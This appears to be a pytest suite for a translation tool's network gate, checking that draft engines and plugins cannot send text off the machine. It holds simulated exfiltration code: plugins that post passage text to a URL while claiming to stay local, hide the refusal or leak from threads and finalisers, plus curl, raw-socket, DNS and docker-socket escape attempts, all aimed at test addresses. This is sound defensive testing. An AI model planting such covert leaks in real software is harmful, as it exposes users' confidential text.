"""Every way round the gate, tried with sockets forbidden: what passes the walls without leave fails the test."""

from __future__ import annotations

import asyncio
import itertools
import json
import os
import socket
import subprocess
import sys
import threading
import urllib.request
from collections.abc import Callable, Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from textwrap import dedent
from typing import Any

import pytest
import requests

from tests.draft.gates import (
    ALL,
    CANARY,
    NOTHING,
    OPEN,
    SECRET,
    THERE,
    Fake,
    Server,
    Watch,
    all_of,
    asked,
    echo,
    gate,
    request,
    server,
    watched,
    why,
)
from workflow.draft import plan
from workflow.draft.gate import Way, way_of
from workflow.draft.held import held
from workflow.draft.leaving import About, KeptInMemory, Leaving, LedgerInMemory, Permission
from workflow.draft.machine import Machine
from workflow.draft.masking import MaskStyle
from workflow.draft.plan import Materials, drafts, engine_of
from workflow.draft.port import Limits, Passage, Reach, Said, Unanswered
from workflow.draft.setup import Setup
from workflow.draft.walls import starting_child
from workflow.errors import BudgetError, DraftError, EngineBusyError, GateError, RuleError
from workflow.model.translation import Draft

PROXIES = ("http_proxy", "HTTP_PROXY", "https_proxy", "HTTPS_PROXY", "all_proxy", "ALL_PROXY")


@pytest.fixture(autouse=True)
def watch(monkeypatch: pytest.MonkeyPatch) -> Iterator[Watch]:
    """Nothing leaves a test of this file, but to servers that it named; no test sees another's proxies."""
    monkeypatch.setattr(urllib.request, "_opener", None)
    for name in (*PROXIES, "no_proxy", "NO_PROXY"):
        monkeypatch.delenv(name, raising=False)
    with watched() as found:
        yield found


@pytest.fixture
def ours(watch: Watch) -> Iterator[Server]:
    """A server of this machine that may be reached where the gate lets it."""
    with server() as found:
        watch.ports.add(found.port)
        yield found


@pytest.fixture
def other(watch: Watch) -> Iterator[Server]:
    """A server that nobody may reach; the test may, so that the walls alone hold."""
    with server() as found:
        watch.ports.add(found.port)
        yield found
        assert found.heard == []


def post(url: str) -> Callable[[Sequence[Passage]], list[Said]]:
    """Sends every text to an address."""

    def work(passages: Sequence[Passage]) -> list[Said]:
        for one in passages:
            urllib.request.urlopen(url, data=one.text.encode(), timeout=5).read()
        return echo(passages)

    return work


# --- Fallback


@pytest.mark.parametrize("first", [Reach.IN_PROCESS, Reach.CHILD])
def test_no_engine_in_the_order_takes_over_what_the_gate_refused(first: Reach) -> None:
    def fails(_passages: Sequence[Passage]) -> list[Said]:
        raise DraftError("It broke.")

    near = Fake(fails, first, name="near", sealed=True)
    remote, loop = Fake(reach=Reach.NETWORK, host=THERE), Fake(reach=Reach.LOOPBACK, host="localhost:9", name="loop")
    engines = [Machine(each) for each in (remote, near, loop, remote)]
    through = gate()
    answers = drafts(engines, [request()], lambda engine, some: through.drafts(engine, some, SECRET))
    assert isinstance(answers[0], Unanswered)
    assert near.given == [CANARY]
    assert remote.given == loop.given == []


def test_a_budget_that_is_used_up_does_not_open_the_next_gate() -> None:
    class Spent(LedgerInMemory):
        def opened(self, leaving: Leaving) -> int:
            raise BudgetError("The characters of today are used up.")

    paid, free = Fake(reach=Reach.NETWORK, host=THERE), Fake(reach=Reach.NETWORK, host=THERE, name="free")
    through = gate(ledger=Spent())
    answers = drafts(
        [Machine(paid), Machine(free)], [request()], lambda engine, some: through.drafts(engine, some, OPEN)
    )
    assert isinstance(answers[0], Unanswered)
    assert paid.given == free.given == []
    assert isinstance(through.ledger, LedgerInMemory)
    assert through.ledger.rows == []


# --- A third party's engine


PLUGIN = """
    from dataclasses import dataclass, field
    import urllib.request
    from concurrent.futures import ThreadPoolExecutor
    from workflow.draft.masking import MaskStyle
    from workflow.draft.port import Limits, Passage, Reach, Said

    class Base:
        version, reach, host, limits, masks, takes_terms = "1", Reach.IN_PROCESS, "", Limits(), MaskStyle.TOKEN, False
        def __init__(self, setup):
            self.setup, self.name = setup, setup.name
        def knows(self, source, target):
            return True
        def translate(self, passages):
            return [Said("(" + one.text + ")") for one in passages]
        def leak(self, text):
            urllib.request.urlopen(self.setup.url, data=text.encode()).read()
"""


NUMBER = itertools.count(1)
"""Of each plugin: a module is imported once."""


@pytest.fixture
def plugin(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., Any]:
    """Install a package that offers an engine, and let it be made as the settings would."""

    def install(body: str, *, url: str = "", name: str = "there") -> Any:
        module = f"plugged{next(NUMBER)}"
        (tmp_path / f"{module}.py").write_text(dedent(PLUGIN) + dedent(body), "utf8")
        info = tmp_path / f"{module}-1.dist-info"
        info.mkdir()
        (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {module}\nVersion: 1\n")
        (info / "entry_points.txt").write_text(f"[{plan.GROUP}]\n{module} = {module}:Engine\n")
        monkeypatch.syspath_prepend(str(tmp_path))
        setups = {name: Setup(name, kind=module, url=url, secret=lambda _variable: "the-key-4711")}
        return engine_of(name, Materials(setups=setups))

    return install


def test_an_honest_plugin_is_asked(plugin: Callable[..., Any]) -> None:
    engine = plugin("class Engine(Base): pass")
    assert isinstance(gate(NOTHING).drafts(engine, [request()], SECRET)[0], Draft)


LIARS = {
    "says that it stays here": """
        class Engine(Base):
            def translate(self, passages):
                self.leak(passages[0].text)
                return super().translate(passages)""",
    "swallows the refusal": """
        class Engine(Base):
            def translate(self, passages):
                try:
                    self.leak(passages[0].text)
                except Exception:
                    pass
                return super().translate(passages)""",
    "makes the refusal a busy server": """
        from workflow.errors import EngineBusyError
        class Engine(Base):
            def translate(self, passages):
                try:
                    self.leak(passages[0].text)
                except Exception:
                    raise EngineBusyError("Try again.")""",
    "says that it is a program": """
        class Engine(Base):
            reach, sealed = Reach.CHILD, True
            def translate(self, passages):
                self.leak(passages[0].text)""",
    "says that it is a server here": """
        class Engine(Base):
            reach, host = Reach.LOOPBACK, "localhost:9"
            def translate(self, passages):
                self.leak(passages[0].text)""",
    "has two faces": """
        class Engine(Base):
            asked = 0
            @property
            def reach(self):
                self.asked += 1
                return Reach.IN_PROCESS if self.asked < 3 else Reach.NETWORK
            @property
            def host(self):
                return self.setup.url.split("/")[2]
            def translate(self, passages):
                self.leak(passages[0].text)""",
    "leaves its work to a thread of before": """
        class Engine(Base):
            def __init__(self, setup):
                super().__init__(setup)
                self.pool = ThreadPoolExecutor(1)
                self.pool.submit(int).result()
            def translate(self, passages):
                self.pool.submit(self.leak, passages[0].text).result()
                return super().translate(passages)""",
    "tells it when asked for its version": """
        class Engine(Base):
            held = ""
            @property
            def version(self):
                if self.held:
                    self.leak(self.held)
                return "1"
            def knows(self, source, target):
                if self.held:
                    self.leak(self.held)
                return True
            def translate(self, passages):
                self.held = passages[0].text
                return super().translate(passages)""",
    "tells it when asked what it knows": """
        class Engine(Base):
            held = ""
            def knows(self, source, target):
                if self.held:
                    self.leak(self.held)
                return True
            def translate(self, passages):
                self.held = passages[0].text
                return super().translate(passages)""",
    "tells it when it is thrown away": """
        class Held(str):
            pass
        class Engine(Base):
            def translate(self, passages):
                engine = self
                class Last:
                    def __del__(self):
                        try:
                            engine.leak(passages[0].text)
                        except Exception:
                            pass
                Last()
                return super().translate(passages)""",
    "takes whole units": """
        class Engine:
            version = "1"
            reach = Reach.IN_PROCESS
            def __init__(self, setup):
                self.setup, self.name = setup, setup.name
            def drafts(self, requests):
                urllib.request.urlopen(self.setup.url, data=requests[0].unit.text.encode()).read()""",
}  # fmt: skip


@pytest.mark.parametrize("body", LIARS.values(), ids=LIARS)
@pytest.mark.parametrize("about", [OPEN, SECRET])
def test_a_plugin_that_goes_against_its_word_is_stopped(
    body: str, about: About, plugin: Callable[..., Any], other: Server
) -> None:
    engine = plugin(body, url=other.url)
    for _ in range(4):  # some change their word only later
        try:
            told = gate().drafts(engine, [request()], about)[0]
        except DraftError as error:
            told = Unanswered(str(error))
        # A thread that was there before the call has a wall of its own, on which the refusal is noted.
        assert isinstance(told, Draft) or "may not" in told.why or "(URLError)" in told.why
    assert other.heard == []


def test_a_refusal_that_was_swallowed_is_told(plugin: Callable[..., Any], other: Server) -> None:
    engine = plugin(LIARS["swallows the refusal"], url=other.url)
    ledger, kept = LedgerInMemory(), KeptInMemory()
    told = why(gate(ledger=ledger, kept=kept).drafts(engine, [request()], OPEN)[0])
    assert told == f"The engine tried to connect to {other.host}, which it may not."
    assert kept.answers == {}


@pytest.mark.parametrize("permission", [ALL, NOTHING])
def test_an_engine_of_whole_units_stays_in_this_process(permission: Permission, plugin: Callable[..., Any]) -> None:
    body = """
        class Engine:
            name, version, reach, host = "there", "1", Reach.{reach}, "{host}"
            given = []
            def __init__(self, setup): pass
            def drafts(self, requests):
                self.given.append(requests)
                return []
    """
    for reach, host in ((Reach.NETWORK, THERE), (Reach.LOOPBACK, "localhost:9"), (Reach.CHILD, "")):
        engine = plugin(body.format(reach=reach.name, host=host))
        with pytest.raises(GateError, match="whole units"):
            gate(permission).drafts(engine, [request()], OPEN)
        assert engine.engine.given == []


@pytest.mark.parametrize(
    "body",
    [
        "class Engine(Base):\n    def __init__(self, setup): self.name = 'google'",
        "class Engine(Base):\n    name = property(lambda self: 'google', lambda self, value: None)",
        "class Engine:\n    name, version, reach = 'google', '1', Reach.IN_PROCESS\n    def __init__(self, _): pass",
    ],
)
def test_a_plugin_does_not_rename_itself(body: str, plugin: Callable[..., Any]) -> None:
    with pytest.raises(DraftError, match="goes by another name"):
        plugin(body)


def test_a_plugin_does_not_rename_itself_later(plugin: Callable[..., Any]) -> None:
    engine = plugin(f"""
        class Engine(Base):
            reach, host, asked = Reach.NETWORK, "{THERE}", 0
            @property
            def name(self):
                self.asked += 1
                return "there" if self.asked < 4 else "google"
            @name.setter
            def name(self, value): pass
    """)
    google = frozenset({"google"})
    for _ in range(6):
        with pytest.raises(GateError, match="“there”"):
            gate(Permission(google, google, google)).drafts(engine, [request()], OPEN)


def test_drafts_of_a_plugin_go_by_its_name(plugin: Callable[..., Any]) -> None:
    engine = plugin("""
        from workflow.model.translation import Draft
        class Engine:
            name, version, reach = "there", "1", Reach.IN_PROCESS
            def __init__(self, setup): pass
            def drafts(self, requests):
                return [Draft("x", "memory", 100) for _ in requests]
    """)
    answer = gate(NOTHING).drafts(engine, [request()], SECRET)[0]
    assert isinstance(answer, Draft)
    assert answer.engine == "there"


BROKEN = {
    "raises when loaded": "raise RuntimeError('the-key-4711')",
    "ends the program when loaded": "raise SystemExit(3)",
    "raises when made": "class Engine(Base):\n    def __init__(self, setup): raise RuntimeError(setup.secret(''))",
    "calls home when made": "class Engine(Base):\n    def __init__(self, setup): urllib.request.urlopen(setup.url)",
    "calls home when loaded": "urllib.request.urlopen('http://198.51.100.7/')\nclass Engine(Base): pass",
    "is nothing": "def Engine(setup): return None",
    "is half": "class Engine:\n    def __init__(self, setup): self.name = setup.name",
    "has an odd reach": "class Engine(Base):\n    reach = 'somewhere'",
}


@pytest.mark.parametrize("body", BROKEN.values(), ids=BROKEN)
def test_a_broken_plugin_is_told_without_its_key(body: str, plugin: Callable[..., Any], other: Server) -> None:
    with pytest.raises(DraftError) as told:
        gate().drafts(plugin(body, url=other.url), [request()], OPEN)
    assert "4711" not in all_of(told.value)


@pytest.mark.parametrize(
    "body",
    [
        "def drafts(self, requests): return []",
        "def drafts(self, requests): return ['x' for _ in requests]",
        "def drafts(self, requests): return None",
        "def drafts(self, requests): raise RuntimeError(requests[0].unit.text)",
        "def drafts(self, requests): raise SystemExit(requests[0].unit.text)",
    ],
)
def test_a_plugin_that_answers_oddly_fails_alone(body: str, plugin: Callable[..., Any]) -> None:
    engine = plugin(f"""
        class Engine:
            name, version, reach = "there", "1", Reach.IN_PROCESS
            def __init__(self, setup): pass
            {body}
    """)
    through = gate(NOTHING)
    answers = drafts(
        [engine, Machine(Fake(name="near"))], [request()], lambda engine, some: through.drafts(engine, some, SECRET)
    )
    assert isinstance(answers[0], Draft)
    assert answers[0].engine == "near"


# --- Machines and tables


def test_a_machine_is_not_asked_past_the_gate() -> None:
    fake = Fake()
    with pytest.raises(TypeError):
        Machine(fake).drafts([request()])
    assert fake.given == []


def test_a_machine_that_was_exchanged_is_judged_as_what_it_is_now() -> None:
    engine, remote = Machine(Fake()), Fake(reach=Reach.NETWORK, host=THERE)
    through = gate(NOTHING)
    assert isinstance(through.drafts(engine, [request()], SECRET)[0], Draft)
    engine.translator = held(remote)
    with pytest.raises(GateError):
        through.drafts(engine, [request()], SECRET)
    assert remote.given == []


def test_a_translator_among_our_own_engines_gets_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    remote = Fake(reach=Reach.NETWORK, host=THERE)
    monkeypatch.setitem(plan.OWN, "there", lambda _stuff: remote)
    with pytest.raises(GateError, match="whole units"):
        gate().drafts(engine_of("there", Materials()), [request()], OPEN)
    assert remote.given == []


def test_what_a_translator_says_of_itself_is_asked_once() -> None:
    fake = Fake(reach=Reach.LOOPBACK, host="localhost:9")
    taken = held(fake)

    def said() -> tuple[object, ...]:
        of_it = (taken.name, taken.version, taken.reach, taken.host, taken.limits, taken.masks)
        return (*of_it, taken.takes_terms, taken.sealed)

    before = said()
    fake.name, fake.version, fake.reach, fake.host = "google", "2", Reach.NETWORK, THERE
    fake.limits, fake.masks, fake.takes_terms, fake.sealed = Limits(characters=9), MaskStyle.XML, True, True
    assert said() == before
    assert held(taken) is taken
    assert way_of(Machine(taken)) == Way("there", Reach.LOOPBACK, "localhost:9")


# --- The environment, and what servers answer


def by_urllib(host: str) -> Callable[[Sequence[Passage]], list[Said]]:
    return post(f"http://{host}/")


def by_requests(host: str) -> Callable[[Sequence[Passage]], list[Said]]:
    def work(passages: Sequence[Passage]) -> list[Said]:
        for one in passages:
            requests.post(f"http://{host}/", data=one.text.encode(), timeout=5)
        return echo(passages)

    return work


@pytest.mark.parametrize("how", [by_urllib, by_requests])
@pytest.mark.parametrize("no_proxy", ["", "*.example.org"])
def test_a_proxy_of_the_environment_sees_nothing(
    how: Callable[[str], Any], no_proxy: str, ours: Server, other: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in PROXIES:
        monkeypatch.setenv(name, other.url)
    monkeypatch.setenv("no_proxy", no_proxy)
    monkeypatch.setenv("NO_PROXY", no_proxy)
    for host in (ours.host, THERE):
        fake = Fake(how(host), Reach.NETWORK, host)
        assert f"connect to {other.host}" in why(asked(fake))
        assert fake.given == [CANARY]
    assert ours.heard == other.heard == []


@pytest.mark.parametrize("status", [301, 302, 307, 308])
@pytest.mark.parametrize("how", [by_urllib, by_requests])
def test_a_redirect_leads_nowhere_else(how: Callable[[str], Any], status: int, watch: Watch, other: Server) -> None:
    def elsewhere(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(status)
        handler.send_header("Location", other.url)
        handler.end_headers()

    with server(elsewhere) as ours:
        watch.ports.add(ours.port)
        asked(Fake(how(ours.host), Reach.LOOPBACK, ours.host), SECRET)
        assert len(ours.heard) == 1
    assert other.heard == []


def test_a_server_that_may_be_asked_is_asked_and_on_the_ledger(ours: Server) -> None:
    ledger = LedgerInMemory()
    fake = Fake(post(ours.url), Reach.NETWORK, ours.host)
    assert isinstance(asked(fake, ledger=ledger), Draft)
    assert CANARY.encode() in ours.heard[0]
    leaving = Leaving("there", "1", Reach.NETWORK, ours.host, "song", "fa", 1, len(CANARY))
    assert ledger.rows == [(leaving, "answered")]


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_our_own_clients_pass_by_the_walls(name: str, watch: Watch, other: Server, monkeypatch: Any) -> None:
    def answer(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(200)
        handler.end_headers()
        handler.wfile.write(json.dumps({"translatedText": "قناری سرخ سپیده‌دم می‌خواند"}).encode())

    for variable in PROXIES:
        monkeypatch.setenv(variable, other.url)
    with server(answer) as ours:
        watch.ports.add(ours.port)
        setup = Setup("there", kind="libretranslate", url=f"http://{name}:{ours.port}", pause=0.0)
        ledger = LedgerInMemory()
        engine = engine_of("there", Materials(setups={"there": setup}))
        answers = gate(ledger=ledger).drafts(engine, [request(), request("Bread and light.")], SECRET)
    assert [isinstance(each, Draft) for each in answers] == [True, True]
    assert [(row.reach, row.host, outcome) for row, outcome in ledger.rows] == [
        (Reach.LOOPBACK, f"{name}:{ours.port}", "answered")
    ] * 2


# --- Threads, programs and other ways out, through the whole gate


def _thread(run: Callable[[], object]) -> None:
    """In a thread of its own; what it meets, this one meets."""
    met: list[BaseException] = []

    def tell() -> None:
        try:
            run()
        except BaseException as error:
            met.append(error)

    each = threading.Thread(target=tell)
    each.start()
    each.join()
    if met:
        raise met[0]


def _pool(run: Callable[[], object]) -> None:
    with ThreadPoolExecutor(1) as pool:
        pool.submit(run).result()


def _loop(run: Callable[[], object]) -> None:
    async def main() -> None:
        await asyncio.to_thread(run)

    asyncio.run(main())


def _here(run: Callable[[], object]) -> None:
    run()


ESCAPES: dict[str, Callable[[], object]] = {
    "urllib": lambda: urllib.request.urlopen("http://198.51.100.7/"),
    "requests": lambda: requests.get("http://198.51.100.7/", timeout=1),
    "look-up": lambda: socket.getaddrinfo(f"{CANARY.split()[2]}.example.org", 53),
    "look-up by connect": lambda: socket.create_connection(("canary.example.org", 53)),
    "datagram": lambda: _datagram(("198.51.100.7", 53)),
    "datagram to a name": lambda: _datagram(("canary.example.org", 53)),
    "program": lambda: subprocess.run(["curl", CANARY], check=False),
    "shell": lambda: os.system(f"true {CANARY}"),
    "python": lambda: subprocess.run([sys.executable, "-c", "pass"], check=False),
    "unix": lambda: _unix("/run/docker.sock"),
    "abstract": lambda: _unix("\0agent"),
}


def _datagram(where: tuple[str, int]) -> None:
    with socket.socket(type=socket.SOCK_DGRAM) as out:
        out.sendto(CANARY.encode(), where)


def _unix(where: str) -> None:
    with socket.socket(socket.AF_UNIX) as out:
        out.connect(where)


@pytest.mark.parametrize("escape", ESCAPES.values(), ids=ESCAPES)
@pytest.mark.parametrize("through", [_here, _thread, _pool, _loop])
@pytest.mark.parametrize(
    ("reach", "host"),
    [(Reach.IN_PROCESS, ""), (Reach.CHILD, ""), (Reach.LOOPBACK, "localhost:9"), (Reach.NETWORK, "example.net:443")],
)
def test_an_engine_that_runs_away_is_caught(
    escape: Callable[[], object], through: Callable[[Any], None], reach: Reach, host: str
) -> None:
    def work(passages: Sequence[Passage]) -> list[Said]:
        through(escape)
        return echo(passages)

    ledger, kept = LedgerInMemory(), KeptInMemory()
    about = OPEN if reach is Reach.NETWORK else SECRET
    told = why(asked(Fake(work, reach, host, sealed=True), about, ledger=ledger, kept=kept))
    assert told.startswith("The engine tried to ")
    assert "canary" not in told
    assert kept.answers == {}
    assert [outcome for _, outcome in ledger.rows] == ([told] if host else [])


@pytest.mark.parametrize("secret", [False, True])
@pytest.mark.parametrize("marked", [False, True])
def test_a_program_for_a_confidential_document_is_sealed(secret: bool, marked: bool, watch: Watch) -> None:
    def work(passages: Sequence[Passage]) -> list[Said]:
        with starting_child(sealed=marked):
            subprocess.run(["true"], check=True)
        return echo(passages)

    watch.programs = True
    answer = asked(Fake(work, Reach.CHILD, sealed=True), SECRET if secret else OPEN)
    assert isinstance(answer, Draft) is (marked or not secret)


def test_an_engine_that_left_a_thread_behind_sends_nothing_later(other: Server) -> None:
    go, done = threading.Event(), threading.Event()

    def work(passages: Sequence[Passage]) -> list[Said]:
        def later() -> None:
            go.wait(5)
            try:
                post(other.url)(passages)
            except OSError:
                done.set()

        threading.Thread(target=later, daemon=True).start()
        return echo(passages)

    assert isinstance(asked(Fake(work, Reach.NETWORK, other.host)), Draft)
    go.set()
    assert done.wait(5)
    assert other.heard == []


# --- Leave that is taken back, and a run that begins anew


@pytest.mark.parametrize(
    ("permission", "about", "says"),
    [
        (NOTHING, OPEN, "does not name it"),
        (Permission(frozenset({"there"})), OPEN, "nobody allowed"),
        (ALL, SECRET, "has changed meanwhile"),
    ],
)
def test_leave_that_is_taken_back_between_two_attempts_stops_the_second(
    permission: Permission, about: About, says: str
) -> None:
    def busy(_passages: Sequence[Passage]) -> list[Said]:
        now[:] = [(permission, about)]
        raise EngineBusyError("It is busy.")

    now = [(ALL, OPEN)]
    ledger = LedgerInMemory()
    fake = Fake(busy, Reach.NETWORK, THERE, limits=Limits(attempts=3))
    assert says in why(asked(fake, OPEN, ledger=ledger, again=lambda _about: now[0]))
    assert fake.given == [CANARY]
    assert [outcome for _, outcome in ledger.rows] == ["It is busy."]


def test_without_a_change_each_attempt_is_on_the_ledger() -> None:
    def busy(_passages: Sequence[Passage]) -> list[Said]:
        raise EngineBusyError("It is busy.")

    ledger = LedgerInMemory()
    asked(Fake(busy, Reach.NETWORK, THERE, limits=Limits(attempts=3)), ledger=ledger, again=lambda about: (ALL, about))
    assert [outcome for _, outcome in ledger.rows] == ["It is busy."] * 3


def test_a_right_that_is_taken_back_ends_the_run() -> None:
    def again(_about: About) -> tuple[Permission, About]:
        raise RuleError("mina may no longer let words leave.")

    fake = Fake(reach=Reach.NETWORK, host=THERE)
    with pytest.raises(RuleError):
        asked(fake, again=again)
    assert fake.given == []


def test_after_a_restart_the_gate_asks_anew_and_serves_nothing_that_it_kept() -> None:
    kept, fake = KeptInMemory(), Fake(reach=Reach.NETWORK, host=THERE)
    assert isinstance(asked(fake, OPEN, ALL, kept=kept), Draft)
    for about, permission in ((OPEN, NOTHING), (SECRET, ALL)):
        with pytest.raises(GateError):
            asked(Fake(reach=Reach.NETWORK, host=THERE), about, permission, kept=kept)
    assert isinstance(asked(fake, OPEN, ALL, kept=kept), Draft)
    assert fake.given == [CANARY]
